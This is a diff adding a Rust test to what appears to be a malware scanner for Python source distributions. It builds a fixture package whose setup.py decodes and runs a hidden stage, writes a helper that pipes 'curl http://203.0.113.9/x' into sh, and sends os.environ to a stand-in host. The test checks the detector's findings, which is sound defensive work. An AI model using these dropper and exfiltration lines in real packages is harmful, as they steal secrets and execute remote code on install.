@@ -1033,3 +1033,58 @@ fn macos_appledouble_members_of_an_sdist_are_no_errors() {
     assert_eq!(doc["errors"].as_array().unwrap().len(), 0, "{doc}");
     assert_eq!(doc["stats"]["files_scanned"], 2, "{doc}");
 }
+
+/// The rule ids reported at one line of one archive member.
+fn rules_at<'d>(doc: &'d serde_json::Value, path: &str, line: u64) -> Vec<&'d str> {
+    doc["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["path"] == path && f["line"] == line)
+        .filter_map(|f| f["rule_id"].as_str())
+        .collect()
+}
+
+#[test]
+fn a_dropper_sdist_is_reported_at_each_stage_it_hides() {
+    // setup.py decodes a stage two by a lambda, writes it to a temporary file and runs it;
+    // it also writes a stealer as a string and runs it by name; the package hands the
+    // environment from one helper to another that sends it, in a function nothing calls at
+    // import time.
+    let dir = repo();
+    let setup = br#"import os, subprocess, sys, tempfile
+_ = lambda s: __import__('zlib').decompress(__import__('base64').b64decode(s))
+stage = os.path.join(tempfile.gettempdir(), 'stage.py')
+with open(stage, 'wb') as f:
+    f.write(_(BLOB))
+subprocess.Popen([sys.executable, stage])
+open('helper.py', 'w').write('import os\nos.system("curl -s http://203.0.113.9/x | sh")\n')
+os.system('python3 helper.py')
+from setuptools import setup
+setup(name='d')
+"#;
+    let init = br#"import os, requests
+def collect():
+    return {'env': dict(os.environ)}
+def send(data):
+    requests.post('https://collect.example.invalid/r', json=data)
+def main():
+    send(collect())
+"#;
+    make_sdist(
+        &dir.path().join("d-1.0.tar.gz"),
+        &[("d-1.0/setup.py", setup), ("d-1.0/d/__init__.py", init)],
+        &[],
+    );
+    let out = pysbx(dir.path()).args(["scan", "--format", "json", "."]).output().unwrap();
+    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
+    let doc = json(&out);
+    assert_eq!(doc["errors"].as_array().unwrap().len(), 0, "{doc}");
+    let setup_py = "d-1.0.tar.gz!/d-1.0/setup.py";
+    // The decoded stage run from its file.
+    assert!(rules_at(&doc, setup_py, 6).contains(&"PSB801"), "{doc}");
+    // The stealer written as a string is read where `python3 helper.py` runs it.
+    assert!(rules_at(&doc, setup_py, 8).contains(&"PSB908"), "{doc}");
+    // The environment handed from `collect` through `send`'s parameter.
+    assert!(rules_at(&doc, "d-1.0.tar.gz!/d-1.0/d/__init__.py", 5).contains(&"PSB914"), "{doc}");
+}
